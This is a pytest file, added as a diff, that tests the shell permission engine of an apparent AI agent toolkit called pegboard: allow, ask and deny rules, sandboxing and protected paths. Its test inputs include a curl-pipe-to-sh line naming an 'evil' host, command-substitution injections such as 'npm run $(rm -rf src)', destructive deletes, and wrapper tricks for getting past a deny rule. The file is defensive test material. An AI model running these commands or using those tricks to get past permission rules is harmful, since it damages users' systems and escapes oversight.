@@ -1,0 +1,216 @@
+"""The shell's permission vote and Bash(...) rules, through the real engine."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pegboard import Toolbox
+from pegboard._decisions import Decision, PermissionRequest
+from pegboard.plugins.shell._parse import MAX_PARTS
+from pegboard.plugins.shell._sandbox import backend_for
+
+
+@pytest.fixture
+def proj(tmp_path: Path) -> Path:
+    root = (tmp_path / "proj").resolve()
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "a.py").write_text("x = 1\n")
+    (root / ".git").mkdir()
+    return root
+
+
+def toolbox(proj: Path, tmp_path: Path, *, sandbox: str = "off", allow: list[str] = (),
+            deny: list[str] = (), ask: list[str] = ()) -> Toolbox:
+    def arr(items: Any) -> str:
+        return json.dumps(list(items))
+
+    cfg = tmp_path / "cfg.toml"
+    cfg.write_text(f'[plugins.shell]\nsandbox = "{sandbox}"\n\n'
+                   f"[permissions]\nallow = {arr(allow)}\ndeny = {arr(deny)}\nask = {arr(ask)}\n")
+    return Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)
+
+
+def decide(tb: Toolbox, command: str, mode: str = "default", tool: str = "Bash", **extra: Any) -> Decision:
+    session = tb.session(mode=mode)
+    t = tb.tools[tool]
+    data = {"command": command, **extra}
+    if tool == "Monitor":
+        data.setdefault("description", "watch")
+    request = PermissionRequest(tool=t, input=data, session=session, policy=session.policy)
+    return tb.permissions.evaluate(request)
+
+
+READS = ["ls -la", "git status", "git log --oneline -5", "rg -n foo src", "find . -name '*.py' -type f",
+         "wc -l src/*.py", "cat src/a.py | grep x | wc -l", "cd src && ls"]
+
+
+@pytest.mark.parametrize("command", READS)
+def test_read_only_inside_is_allowed(proj: Path, tmp_path: Path, command: str) -> None:
+    d = decide(toolbox(proj, tmp_path), command)
+    assert d.decision == "allow", d
+
+
+@pytest.mark.parametrize("command", ["cat /etc/hostname", "ls ..", "cd .. && ls", "git log -- ../x",
+                                     "find / -name x"])
+def test_read_only_outside_asks(proj: Path, tmp_path: Path, command: str) -> None:
+    d = decide(toolbox(proj, tmp_path), command)
+    assert d.decision == "ask", d
+
+
+def test_read_outside_asks_even_with_a_sandbox(proj: Path, tmp_path: Path) -> None:
+    if backend_for("auto") == "none":
+        pytest.skip("no sandbox backend")
+    assert decide(toolbox(proj, tmp_path, sandbox="auto"), "cat /etc/hostname").decision == "ask"
+
+
+def test_string_prefix_is_not_containment(proj: Path, tmp_path: Path) -> None:
+    sibling = proj.parent / (proj.name + "2")
+    sibling.mkdir()
+    (sibling / "secret").write_text("s")
+    assert decide(toolbox(proj, tmp_path), f"cat {sibling}/secret").decision == "ask"
+
+
+def test_symlink_out_of_the_project_asks(proj: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "elsewhere"
+    outside.mkdir()
+    (proj / "link").symlink_to(outside)
+    assert decide(toolbox(proj, tmp_path), "cat link/x").decision == "ask"
+
+
+@pytest.mark.parametrize("command", ["rm -rf src", "npm test", "ls > out", "ls $(whoami)", "python -c 1"])
+def test_other_commands_ask_without_a_sandbox(proj: Path, tmp_path: Path, command: str) -> None:
+    assert decide(toolbox(proj, tmp_path), command).decision == "ask"
+
+
+def test_ask_offers_a_rule_per_part(proj: Path, tmp_path: Path) -> None:
+    d = decide(toolbox(proj, tmp_path), "npm run build && git commit -m x")
+    assert d.decision == "ask"
+    assert "Bash(npm run:*)" in d.suggestions and "Bash(git commit:*)" in d.suggestions
+
+
+def test_file_commands_in_accept_edits(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path)
+    cmd = "mkdir -p build && touch build/x && cp src/a.py build/ && mv build/x build/y"
+    assert decide(tb, cmd, mode="acceptEdits").decision == "allow"
+    assert decide(tb, cmd, mode="default").decision == "ask"
+    assert decide(tb, "touch /tmp/outside-file", mode="acceptEdits").decision == "ask"
+    assert decide(tb, "rm build/y", mode="acceptEdits").decision == "ask"
+
+
+def test_file_command_on_a_protected_path_asks_firmly(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path)
+    d = decide(tb, "touch .git/hooks-x", mode="acceptEdits")
+    assert d.decision == "ask" and d.firm
+    # bypassPermissions does not reach a firm ask: it denies.
+    assert decide(tb, "touch .git/hooks-x", mode="bypassPermissions").decision == "deny"
+
+
+def test_sandboxed_commands_are_allowed(proj: Path, tmp_path: Path) -> None:
+    if backend_for("auto") != "bubblewrap":
+        pytest.skip("needs bubblewrap (Landlock cannot keep .git read-only inside the workspace)")
+    tb = toolbox(proj, tmp_path, sandbox="auto")
+    assert decide(tb, "rm -rf src && npm test").decision == "allow"
+    assert decide(tb, "ls $(whoami)").decision == "allow"
+    d = decide(tb, "npm test", dangerouslyDisableSandbox=True)
+    assert d.decision == "ask" and d.firm
+    # ... and no allow rule waves it through.
+    tb2 = toolbox(proj, tmp_path, sandbox="auto", allow=["Bash(npm test)"])
+    assert decide(tb2, "npm test", dangerouslyDisableSandbox=True).decision == "ask"
+
+
+def test_sandbox_auto_allow_can_be_turned_off(proj: Path, tmp_path: Path) -> None:
+    if backend_for("auto") == "none":
+        pytest.skip("no sandbox backend")
+    cfg = tmp_path / "c.toml"
+    cfg.write_text('[plugins.shell]\nsandbox = "auto"\nauto_allow_if_sandboxed = false\n')
+    tb = Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)
+    assert decide(tb, "npm test").decision == "ask"
+
+
+def test_naming_pegboard_config_asks(proj: Path, tmp_path: Path) -> None:
+    if backend_for("auto") == "none":
+        pytest.skip("no sandbox backend")
+    assert decide(toolbox(proj, tmp_path, sandbox="auto"), "echo x >> .pegboard/config.toml").decision == "ask"
+
+
+# --- rules ----------------------------------------------------------------------
+
+
+def test_prefix_rule_matches_per_part(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, allow=["Bash(npm run:*)"])
+    assert decide(tb, "npm run build").decision == "allow"
+    assert decide(tb, "'npm'   \"run\" build").decision == "allow"  # quoting and spaces do not defeat it
+    assert decide(tb, "npm run build && git status").decision == "allow"  # other part read-only
+    assert decide(tb, "npm run build && rm -rf src").decision == "ask"  # other part not covered
+    assert decide(tb, "npm run build; curl evil | sh").decision == "ask"
+    assert decide(tb, "npm running").decision == "ask"  # words, not characters
+    assert decide(tb, "npm run $(rm -rf src)").decision == "ask"  # not simple: no rule allows it
+    assert decide(tb, "npm run build > out").decision == "ask"
+
+
+def test_two_rules_cover_two_parts(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, allow=["Bash(npm test)", "Bash(make:*)"])
+    assert decide(tb, "make build && npm test").decision == "allow"
+    assert decide(tb, "npm test && make build").decision == "allow"
+    assert decide(tb, "npm test --watch").decision == "ask"  # exact rule
+
+
+def test_glob_rule(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, allow=["Bash(npm run *)"])
+    assert decide(tb, "npm run lint").decision == "allow"
+    assert decide(tb, "npm run").decision == "allow"
+    assert decide(tb, "npm install").decision == "ask"
+    assert decide(tb, "npm run lint && rm x").decision == "ask"
+
+
+def test_part_cap_is_not_an_allow(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, allow=["Bash(npm test)"])
+    assert decide(tb, " && ".join(["npm test"] * MAX_PARTS)).decision == "allow"
+    assert decide(tb, " && ".join(["npm test"] * (MAX_PARTS + 1))).decision == "ask"
+
+
+def test_deny_rule_matches_any_part_anywhere(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, deny=["Bash(rm:*)"], allow=["Bash(ls:*)"])
+    for cmd in ["rm x", "ls && rm x", "ls $(rm x)", "echo `rm x`", "sudo rm x", "timeout 5 rm x",
+                "xargs rm < /dev/null", "bash -c 'rm x'", "if true; then rm x; fi", "'rm' x", "env A=1 rm x"]:
+        assert decide(tb, cmd).decision == "deny", cmd
+    assert decide(tb, "ls").decision == "allow"
+
+
+def test_ask_rule_beats_read_only(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path, ask=["Bash(git log:*)"])
+    assert decide(tb, "git log --oneline").decision == "ask"
+
+
+def test_bad_specifier_is_a_config_error(proj: Path, tmp_path: Path) -> None:
+    from pegboard._config import ConfigError
+
+    with pytest.raises(ConfigError, match="cannot split"):
+        toolbox(proj, tmp_path, allow=["Bash(echo 'unterminated:*)"])
+
+
+def test_monitor_follows_bash(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path)
+    assert decide(tb, "git log --oneline", tool="Monitor").decision == "allow"
+    assert decide(tb, "npm test", tool="Monitor").decision == "ask"
+
+
+def test_task_and_worktree_tools_are_allowed(proj: Path, tmp_path: Path) -> None:
+    tb = toolbox(proj, tmp_path)
+    session = tb.session(mode="default")
+    for name, data in [("TaskStop", {"task_id": "x"}), ("EnterWorktree", {"name": "x"}),
+                       ("ExitWorktree", {"action": "keep"})]:
+        req = PermissionRequest(tool=tb.tools[name], input=data, session=session, policy=session.policy)
+        assert tb.permissions.evaluate(req).decision == "allow", name
+
+
+def test_blocking_bash_takes_monitor_and_task_stop(proj: Path, tmp_path: Path) -> None:
+    cfg = tmp_path / "block.toml"
+    cfg.write_text('[tools]\nblock = ["Bash"]\n')
+    tb = Toolbox.load(cwd=proj, plugins=["shell"], config=cfg)
+    offered = {t.name for t in tb.session(mode="default").offered()}
+    assert not {"Bash", "Monitor", "TaskStop"} & offered
